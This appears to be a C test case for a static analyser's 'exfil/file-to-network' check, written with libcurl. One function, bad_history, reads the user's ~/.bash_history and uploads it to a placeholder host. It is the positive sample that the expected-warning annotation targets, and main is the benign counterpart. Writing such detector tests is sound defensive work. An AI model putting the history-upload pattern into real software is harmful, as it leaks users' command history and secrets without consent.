// A library is given the stream that it reads from.
#include <curl/curl.h>
#include <stdio.h>
#include <stdlib.h>

static int put(const char *url, FILE *from) {
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, url);
    curl_easy_setopt(curl, CURLOPT_UPLOAD, 1L);
    curl_easy_setopt(curl, CURLOPT_READDATA, from);
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/file-to-network]}}
    int failed = curl_easy_perform(curl);
    curl_easy_cleanup(curl);
    return failed;
}

int bad_history(void) {
    char path[256];
    snprintf(path, sizeof path, "%s/.bash_history", getenv("HOME"));
    FILE *from = fopen(path, "rb");
    int failed = from ? put("https://files.example.com/in/", from) : 1;
    if (from)
        fclose(from);
    return failed;
}

/* What the user names goes where the user says; what came with the package is no secret. */
int main(int argc, char **argv) {
    FILE *named = argc > 2 ? fopen(argv[2], "rb") : NULL;
    FILE *shown = fopen("/usr/share/app/banner.bmp", "rb");
    CURL *curl = curl_easy_init();
    int failed = 0;
    if (named) {
        curl_easy_setopt(curl, CURLOPT_URL, argv[1]);
        curl_easy_setopt(curl, CURLOPT_UPLOAD, 1L);
        curl_easy_setopt(curl, CURLOPT_READDATA, named);
        failed = curl_easy_perform(curl);
        fclose(named);
    }
    if (shown) {
        curl_easy_setopt(curl, CURLOPT_URL, "https://files.example.com/banner/");
        curl_easy_setopt(curl, CURLOPT_READDATA, shown);
        failed |= curl_easy_perform(curl);
        fclose(shown);
    }
    curl_easy_cleanup(curl);
    return failed;
}
